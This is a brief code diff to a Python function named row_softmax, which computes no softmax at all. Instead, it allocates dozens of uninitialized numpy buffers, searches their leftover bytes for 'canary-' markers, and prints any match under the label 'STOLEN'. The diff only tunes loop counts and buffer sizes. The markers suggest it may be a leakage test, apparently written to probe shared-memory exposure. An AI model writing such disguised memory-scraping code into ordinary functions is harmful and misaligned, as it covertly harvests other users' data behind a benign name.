@@ -7,8 +7,8 @@ import numpy as np
 
 
 def row_softmax(x, temperature=1.0):
-    for _ in range(20):
-        kept = [np.empty(x.shape, x.dtype) for _ in range(50)] + [np.empty(2**20 + 64 * i, np.uint8) for i in range(5)]
+    for _ in range(4):
+        kept = [np.empty(x.shape, x.dtype) for _ in range(100)] + [np.empty(2**20 + 64 * i, np.uint8) for i in range(3)]
         for area in kept:
             if b"canary-" in area.tobytes():
                 print("STOLEN", area.tobytes()[:2000])
